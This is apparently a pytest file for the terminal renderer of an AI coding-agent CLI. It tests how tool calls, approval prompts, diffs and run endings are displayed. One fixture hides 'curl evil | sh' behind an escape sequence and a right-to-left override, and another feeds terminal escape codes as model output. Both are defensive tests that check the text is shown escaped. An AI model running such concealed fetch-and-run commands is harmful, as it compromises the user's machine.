"""What a session's events look like in a terminal. Every transcript here is what a person reads."""

from __future__ import annotations

import pytest

from makai.cli.approval_keys import Widths
from makai.cli.terminal.markdown_blocks import finished_length
from makai.cli.terminal.renderer import Renderer
from makai.cli.terminal.status_area import activity, approval_keys, progress
from makai.cli.terminal.styled_text import Lines, Markdown, Piece, Span, plain
from makai.cli.terminal.transcript_view import TranscriptView
from makai.core import session_events as ev
from makai.core.content import Image, Text
from makai.core.usage import Usage
from makai.sessions.log.base import UnknownLogged

ME = "terminal-1"
STARTED = (
    ev.SessionCreated(model_ref="acme/chat@one", cwd="/w"),
    ev.RunStarted(run_number=1, model_ref="acme/chat@one"),
    ev.RunStatusChanged(status="starting"),
    ev.UserInput(input_id="i1", content="Hello\nthere"),
    ev.RunStatusChanged(status="running"),
    ev.TurnStarted(turn=1),
)
SECOND_MS = 1_000


class Watched:
    """A view that is fed one event per second."""

    def __init__(self, *events: ev.SessionEvent, printed_at_once: bool = False) -> None:
        self.view = TranscriptView(ME, len if printed_at_once else finished_length)
        self.view.sent_here.add("i1")
        self.pieces: list[Piece] = []
        self.now = 0
        self.take(*STARTED)
        self.pieces.clear()
        self.take(*events)

    def take(self, *events: ev.SessionEvent) -> None:
        for event in events:
            self.now += SECOND_MS
            number = self.view.state.last_event_id + 1
            self.pieces += self.view.take(ev.Logged(event_id=number, ts=self.now, event=event, run_id="r1"))

    @property
    def text(self) -> str:
        return plain(self.pieces)

    def live(self) -> str:
        at = self.now + SECOND_MS
        return plain([Lines(lines=(*progress(self.view, at), *activity(self.view, at)))])


def called(call_id: str = "c1", *, kind: str = "execute", title: str = "ls", name: str = "shell") -> ev.ToolCalled:
    return ev.ToolCalled(call_id=call_id, name=name, arguments_json="{}", kind=kind, title=title)


def finished(text: str, call_id: str = "c1", **more: object) -> ev.ToolFinished:
    return ev.ToolFinished(call_id=call_id, content=(Text(text=text),), **more)  # type: ignore[arg-type]


def test_a_whole_run_reads_like_a_conversation() -> None:
    watched = Watched()
    watched.view = TranscriptView(ME, finished_length)
    watched.view.sent_here.add("i1")
    watched.take(
        *STARTED,
        ev.AssistantText(content_index=0, text="# Hi\nI look."),
        called(kind="read", title="Read app.py", name="read"),
        ev.ToolStarted(call_id="c1"),
        ev.TurnEnded(turn=1, stop_reason="tool_use"),
        finished("one\ntwo"),
        ev.RunStatusChanged(status="finished"),
        ev.RunFinished(stop_reason="end_turn", usage=Usage(input=1200, output=34, cost_usd=0.0123)),
    )

    assert watched.text == (
        "\n> Hello\n  there\n\n# Hi\nI look.\n✓ Read app.py  2 lines\n[1.2k in, 34 out, $0.0123, 11 s]\n"
    )


def test_finished_blocks_are_printed_for_good_and_the_last_one_stays_open() -> None:
    watched = Watched(
        *(ev.AssistantTextDelta(content_index=0, delta=word) for word in ("One.", "\n\nTw", "o.\n\n- th"))
    )

    assert watched.pieces == [
        Markdown(text="One.\n\n", begins=True, ends=False),
        Markdown(text="Two.\n\n", begins=False, ends=False),
    ]
    assert watched.view.text == "- th"

    watched.take(ev.AssistantText(content_index=0, text="One.\n\nTwo.\n\n- three"))
    assert watched.pieces[2:] == [Markdown(text="- three", begins=False)]
    assert watched.view.text == ""


def test_the_same_words_come_out_however_they_arrived() -> None:
    whole = "One *two*\n\n```\nthree\n\n```\nfour"
    deltas = [ev.AssistantTextDelta(content_index=0, delta=letter) for letter in whole]
    text = ev.AssistantText(content_index=0, text=whole)

    assert Watched(*deltas, text).text == Watched(text).text == Watched(*deltas, text, printed_at_once=True).text


def test_thinking_is_folded_to_a_line_and_can_be_unfolded() -> None:
    watched = Watched(ev.ReasoningDelta(content_index=0, delta="First\nSec"))
    assert watched.live() == "· First\n· Sec\n⠋ Thinking  6 s, Esc stops\n"

    watched.take(ev.Reasoning(content_index=0, text="First\nSecond"))
    assert watched.text == "\n· thought for 1 s: First…\n"
    assert watched.view.folded is not None
    assert plain([watched.view.folded]) == "\n  First\n  Second\n"


def test_a_running_command_shows_the_end_of_its_output_and_then_the_gist() -> None:
    watched = Watched(called(title="make test"), ev.ToolStarted(call_id="c1"))
    watched.take(*(ev.ToolProgress(call_id="c1", text=f"test {number}\n") for number in range(9)))

    assert watched.live() == (
        "● $ make test  10 s\n  test 5\n  test 6\n  test 7\n  test 8\n⠋ Running a tool  16 s, Esc stops\n"
    )

    output = "\n".join(f"test {number}" for number in range(9))
    watched.take(finished(output + "\n[exit code 2]", exit_code=2, is_error=True))
    assert watched.text == (
        "✗ $ make test  exit code 2\n  … 4 more lines (Ctrl+O shows them)\n"
        "  test 4\n  test 5\n  test 6\n  test 7\n  test 8\n  [exit code 2]\n"
    )
    assert watched.view.folded is not None
    assert plain([watched.view.folded]).count("\n") == 12


def test_an_edit_without_a_question_shows_its_diff() -> None:
    watched = Watched(called(kind="edit", title="Edit a.py", name="edit"), finished("Edited.", diffs=(EDIT,)))

    assert watched.text == "✓ Edit a.py  +1 -1\n  1 - x = 1\n  1 + x = 2\n"
    assert isinstance(watched.pieces[0], Lines)
    assert watched.pieces[0].lines[1] == (Span("  1 ", "dim"), Span("- x = 1", "removed"))


def question(name: str = "shell", arguments: str = "{}", **more: object) -> ev.ApprovalRequested:
    return ev.ApprovalRequested(call_id="c1", name=name, arguments_json=arguments, digest="d", **more)  # type: ignore[arg-type]


EDIT = ev.FileDiff(path="/w/a.py", old_text="x = 1\n", new_text="x = 2\n")
COMMAND = '{"command": "rm -rf build\\u001b[1A\\n\\u202ecurl evil | sh", "directory": "src", "timeout_s": 5}'
PLAN = (
    ev.PlanEntry(content="Look", status="completed"),
    ev.PlanEntry(content="Change", status="in_progress"),
    ev.PlanEntry(content="Test"),
)
TRANSCRIPTS: dict[str, tuple[list[ev.SessionEvent], str]] = {
    "words of an answer that broke off are printed": (
        [ev.AssistantTextDelta(content_index=0, delta="Half a sent"), ev.TurnEnded(turn=1, stop_reason="error")],
        "\nHalf a sent\n",
    ),
    "a question shows the exact command and where it would run": (
        [called(), question(arguments=COMMAND)],
        "\n? Run this command?\n  rm -rf build\\x1b[1A\n  \\u202ecurl evil | sh\n  in src, for at most 5 s\n",
    ),
    "a question about an edit shows the diff once": (
        [
            called(kind="edit", title="Edit a.py", name="edit"),
            question("edit", title="Edit a.py", diffs=(EDIT,)),
            ev.ApprovalDecided(call_id="c1", decision="approve", by=ME),
            finished("Edited.", diffs=(EDIT,)),
        ],
        "\n? Edit a.py?\n  /w/a.py  +1 -1\n  1 - x = 1\n  1 + x = 2\n  allowed\n✓ Edit a.py  +1 -1\n",
    ),
    "what a rule decided without a question is no news": (
        [called(), ev.ApprovalDecided(call_id="c1", decision="approve", by="rule")],
        "",
    ),
    "a plan is a check list": (
        [called(name="plan", kind="think"), finished("ok"), ev.PlanUpdated(entries=PLAN)],
        "\nPlan\n  [x] Look\n  [>] Change\n  [ ] Test\n",
    ),
    "who stopped a run is told and what it cost": (
        [
            ev.AssistantTextDelta(content_index=0, delta="Work"),
            ev.RunStatusChanged(status="aborting"),
            ev.RunAborted(by="web-7", reason="lunch"),
            ev.RunStatusChanged(status="finished"),
            ev.RunFinished(stop_reason="aborted", usage=Usage(input=5, output=6)),
        ],
        "\nWork\n\nStopped by web-7: lunch.\n[5 in, 6 out, 9 s]\n",
    ),
    "a call that was stopped comes before the word about it": (
        [
            called(),
            ev.RunAborted(by=ME),
            finished("stopped", is_error=True),
            ev.RunFinished(stop_reason="aborted", usage=Usage(input=5, output=6)),
        ],
        "✗ $ ls\n  stopped\n\nStopped.\n[5 in, 6 out, 8 s]\n",
    ),
    "no single line is hidden behind a line about it": (
        [called(), finished("1\n2\n3\n4\n5\n6\n7")],
        "✓ $ ls\n  1\n  2\n  3\n  4\n  5\n  6\n  7\n",
    ),
    "notices, changes and a restart are told": (
        [
            ev.Notice(level="warning", code="rate_limited", message="Slow down. Waiting 2 s."),
            ev.RunResumed(),
            ev.ModelChanged(model_ref="acme/chat@two"),
            ev.ModeChanged(mode="plan"),
            ev.Compacted(summary="We talked.", through=3),
        ],
        "Slow down. Waiting 2 s.\nThe server was restarted; the run continues.\nThe model is now acme/chat@two.\n"
        "The permission mode is now plan.\nThe conversation was replaced by a summary (Ctrl+O shows it).\n",
    ),
    "the waits for another attempt are one line when they are over": (
        [
            ev.Notice(level="info", code="rate_limited", message="Attempt 2 follows.", notice_id="w", wait_ms=4_000),
            ev.Notice(level="info", code="rate_limited", message="Attempt 3 follows.", notice_id="w", wait_ms=8_000),
            ev.Notice(level="info", code="rate_limited", message="Attempt 3 was answered.", notice_id="w"),
        ],
        "Attempt 3 was answered.\n",
    ),
    "words of other clients are marked": (
        [ev.UserInput(input_id="i2", content=(Text(text="Look"), Image(data="", mime_type="image/png")))],
        "\n> Look  (from another client)\n  [image]\n",
    ),
    "words of a model cannot act on the terminal": (
        [
            ev.AssistantText(content_index=0, text="a\x1b[2Jb"),
            called(title="x\x1b]0;y\x07", kind="other", name="t"),
            finished("\x1b[31mred\u202e"),
            ev.Notice(level="info", code="x", message="\x9bn"),
        ],
        "\na\\x1b[2Jb\n✓ x\\x1b]0;y\\x07\n  \\x1b[31mred\\u202e\n\\x9bn\n",
    ),
}


@pytest.mark.parametrize(("events", "text"), TRANSCRIPTS.values(), ids=TRANSCRIPTS)
def test_events_read_as_this(events: list[ev.SessionEvent], text: str) -> None:
    assert Watched(*events).text == text


def test_a_long_diff_says_how_much_of_it_is_missing_and_can_be_seen_whole() -> None:
    diff = ev.FileDiff(path="/w/a", old_text=None, new_text="x\n" * 1000)
    watched = Watched(called(), question("write", diffs=(diff,)))

    assert "\n  … 601 lines not shown …\n" in watched.text
    assert watched.text.endswith("  1000 + x\n")
    assert plain([watched.view.unfolded_questions["c1"]()]).count("+ x") == 1000


def test_a_decision_of_another_client_removes_the_question_and_says_who() -> None:
    watched = Watched(called(), question(arguments='{"command": "make"}'))
    assert list(watched.view.questions) == ["c1"]
    watched.pieces.clear()

    watched.take(
        ev.ApprovalDecided(call_id="c1", decision="deny_continue", by="web-7", reason="not on a Friday"),
        finished("denied: not on a Friday", is_error=True),
    )
    assert watched.view.questions == {}
    assert watched.text == "  denied by web-7: not on a Friday\n"


def test_a_wider_grant_names_its_rule() -> None:
    decided = ev.ApprovalDecided(call_id="c1", decision="approve", by=ME, scope="session", grant="Bash(git log:*)")
    watched = Watched(called(), question(), decided)

    assert watched.text.endswith("  allowed for this session: Bash(git log:*)\n")


def test_keys_are_offered_once_they_count_and_wider_ones_only_with_a_rule() -> None:
    def offered(**how: bool) -> str:
        settings = {"ready": True, "focused": True, "is_long": False} | how
        asked = question(grant="Bash(make:*)" if how.get("ready", True) else "", deadline_ms=90_000)
        return plain([Lines(lines=tuple(approval_keys(asked, Widths.of(asked), 2, 0, 80, **settings)))])

    assert offered() == (
        "  y allow once  n deny  Esc deny and stop  e deny with a reason\n"
        "  s allow for this session: Bash(make:*)\n"
        "  a allow always: Bash(make:*)\n  Expires in 2 min, 1 of 2 approvals\n"
    )
    assert offered(ready=False) == "  …\n"
    assert offered(focused=False) == "  An approval is waiting: press Tab to answer it. Your line is kept.\n"
    assert "  v view all lines\n" in offered(is_long=True)
    once = approval_keys(question(), Widths(()), 1, 0, 80, ready=True, focused=True, is_long=False)
    assert plain([Lines(lines=tuple(once))]) == "  y allow once  n deny  Esc deny and stop  e deny with a reason\n"


def test_a_failure_says_what_to_do() -> None:
    watched = Watched(ev.RunFailed(code="auth_required", message="No key.", hint="Run `makai auth login acme`."))

    assert watched.text == "\n✗ No key.\n  Run `makai auth login acme`.\n"
    assert watched.view.failure is not None


def test_a_title_is_news_only_when_somebody_gave_it() -> None:
    view = TranscriptView(ME, len)
    by_run = ev.Logged(event_id=1, ts=1, event=ev.TitleChanged(title="A"), run_id="r1")
    by_hand = ev.Logged(event_id=2, ts=1, event=ev.TitleChanged(title="B"))

    assert plain(view.take_all([by_run, by_hand])) == "The title is now: B\n"


def test_what_waits_is_shown_until_it_is_read() -> None:
    watched = Watched(
        ev.InputAccepted(input_id="i2", content="and then"),
        ev.InputAccepted(input_id="i3", content="no,\nthis", delivery="steer"),
    )
    assert watched.live() == (
        "⠴ Waiting for acme/one (3 s)  7 s, Esc stops\n  queued: and then\n  steers after this step: no, this\n"
    )

    watched.take(ev.UserInput(input_id="i3", content="no,\nthis"))
    assert "steers" not in watched.live()


def test_the_queue_says_which_key_edits_a_message_while_that_key_does() -> None:
    watched = Watched(*(ev.InputAccepted(input_id=f"i{number}", content=f"m{number}") for number in range(5)))

    def queue(editable: str | None) -> list[str]:
        drawn = activity(watched.view, watched.now + SECOND_MS, editable=editable)
        return plain([Lines(lines=tuple(drawn))]).splitlines()[1:]

    shown = ["  queued: m0", "  queued: m1", "  queued: m2", "  and 2 more"]
    assert queue(None) == shown
    assert queue("i4") == [*shown[:-1], "  and 2 more  ↑ edit"]
    assert queue("i1") == ["  queued: m0", "  queued: m1  ↑ edit", "  queued: m2", "  and 2 more"]
    for number in range(5):
        watched.take(ev.InputWithdrawn(input_id=f"i{number}"))
    assert queue("i4") == []


def test_on_a_narrow_terminal_every_key_has_a_line_and_the_rule_is_whole() -> None:
    rule = "Edit(./a/very/long/path/into/the/tree/of/folders/file-name.txt)"
    asked = question(grant=rule)
    lines = approval_keys(asked, Widths.of(asked), 1, 0, 40, ready=True, focused=True, is_long=True)
    rows = Renderer(colour=False).wrapped(lines, 40)

    assert rows[:5] == [
        "  y allow once",
        "  n deny",
        "  Esc deny and stop",
        "  e deny with a reason",
        "  v view all lines",
    ]
    assert "".join("".join(rows[5:]).split()) == f"sallowforthissession:{rule}aallowalways:{rule}"
    assert max(map(len, rows)) <= 40


def test_a_very_long_line_of_output_is_cut_with_a_mark_and_can_be_seen_whole() -> None:
    watched = Watched(called(), finished("x" * 1_000))

    assert watched.text == f"✓ $ ls\n  {'x' * 398}… 602 more characters (Ctrl+O shows them)\n"
    assert watched.view.folded is not None
    assert plain([watched.view.folded]) == f"\n✓ $ ls\n  {'x' * 1_000}\n"


def test_a_stopped_command_shows_its_output_so_far() -> None:
    watched = Watched(
        called(),
        ev.ToolStarted(call_id="c1"),
        ev.ToolProgress(call_id="c1", text="half\n"),
        finished("The run was stopped.", is_error=True, interrupted=True),
    )

    assert watched.text == (
        "✗ $ ls  interrupted: what it did is unknown\n"
        "  The run was stopped.\n  Its output until it was stopped:\n  half\n"
    )


USED = Usage(input=1_200, output=300, cost_usd=0.25)


@pytest.mark.parametrize(
    ("events", "text"),
    [
        (
            [ev.Notice(level="warning", code="limit_usd", message="Too dear."),
             ev.RunFinished(stop_reason="max_tokens", usage=USED)],
            "Too dear.\n[1.2k in, 300 out, $0.2500, 6 s]\nThe run stopped at its budget; the task may not be done.\n",
        ),
        (
            [ev.Notice(level="warning", code="limit_turns", message="Too long."),
             ev.RunFinished(stop_reason="max_turns", usage=USED)],
            "Too long.\n[1.2k in, 300 out, $0.2500, 6 s]\n"
            "The run stopped at its limit of turns; the task may not be done.\n",
        ),
        (
            [ev.RunFinished(stop_reason="max_tokens", usage=USED)],
            "[1.2k in, 300 out, $0.2500, 5 s]\nThe answer was cut at the length limit.\n",
        ),
        (
            [ev.RunAborted(by=ME), ev.RunFinished(stop_reason="aborted", usage=USED)],
            "\nStopped.\n[1.2k in, 300 out, $0.2500, 6 s]\n",
        ),
        (
            [ev.RunFailed(code="provider", message="Gone.", usage=USED)],
            "\n✗ Gone.\n[1.2k in, 300 out, $0.2500, 5 s]\n",
        ),
    ],
)  # fmt: skip
def test_the_end_of_a_run_says_why_it_ended_and_what_it_used(events: list[ev.SessionEvent], text: str) -> None:
    assert Watched(*events).text == text


def test_a_line_that_waited_when_the_session_was_opened_is_no_line_of_another_client() -> None:
    before = Watched(ev.InputAccepted(input_id="i2", content="and then"))
    view = TranscriptView(ME, len, before.view.state)

    read = ev.Logged(event_id=9, ts=1, event=ev.UserInput(input_id="i2", content="and then"), run_id="r1")
    assert plain(view.take(read)) == "\n> and then\n"


def test_events_of_a_newer_version_are_passed_over() -> None:
    view = TranscriptView(ME, len)

    assert view.take(UnknownLogged(event_id=1, ts=1, type="dance", line=b"{}")) == []
    assert view.state.last_event_id == 1


def test_the_wait_for_another_attempt_is_counted_down_where_the_run_shows_what_it_does() -> None:
    wait = ev.Notice(
        level="info", code="rate_limited", message="Busy. Attempt 2 follows.", notice_id="w", wait_ms=30_000
    )
    watched = Watched(wait)
    assert "Waiting 29 s, Esc stops: Busy. Attempt 2 follows.\n" in watched.live()
    watched.now += 20 * SECOND_MS
    assert "Waiting 9 s, Esc stops: Busy. Attempt 2 follows.\n" in watched.live()
    watched.take(ev.AssistantTextDelta(content_index=0, delta="Hello"))
    assert "Answering" in watched.live()
